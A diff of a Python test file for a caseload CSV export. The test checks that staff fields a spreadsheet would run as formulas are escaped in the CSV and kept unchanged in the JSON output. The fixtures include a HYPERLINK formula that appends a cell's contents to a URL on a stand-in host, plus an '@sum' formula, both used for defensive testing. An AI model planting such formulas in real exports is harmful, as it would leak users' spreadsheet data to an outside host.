@@ -14,7 +14,7 @@ from typing import Any
 
 from cli_helpers import Traject, days_ago
 
-FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
+FORMULA = '=hyperlink("http://example.invalid/?"&a1,"open")'  # staff names are in lower case
 
 
 def csv_rows(traject: Traject, *args: str) -> list[dict[str, Any]]:
@@ -28,12 +28,12 @@ def test_staff_text_that_a_spreadsheet_would_run_is_shown_as_text(ledger: Trajec
         "--role", "regisseur",
     )  # fmt: skip
     ledger.ok(
-        "record", "coach-assigned", person, "--on", days_ago(3), "--staff-id", "@SUM(A1:A9)",
+        "record", "coach-assigned", person, "--on", days_ago(3), "--staff-id", "@sum(a1:a9)",
         "--role", "klantmanager",
     )  # fmt: skip
     (row,) = csv_rows(ledger, "caseload")
     assert row["regisseurs"] == "'" + FORMULA
-    assert row["coaches"] == "klantmanager:@SUM(A1:A9)"  # not at the start of the cell
+    assert row["coaches"] == "klantmanager:@sum(a1:a9)"  # not at the start of the cell
     assert ledger.json("caseload")["rows"][0]["regisseurs"] == FORMULA
     (row,) = csv_rows(ledger, "caseload", "--coach", "@sum(a1:a9)")
     assert row["regisseurs"] == "'" + FORMULA
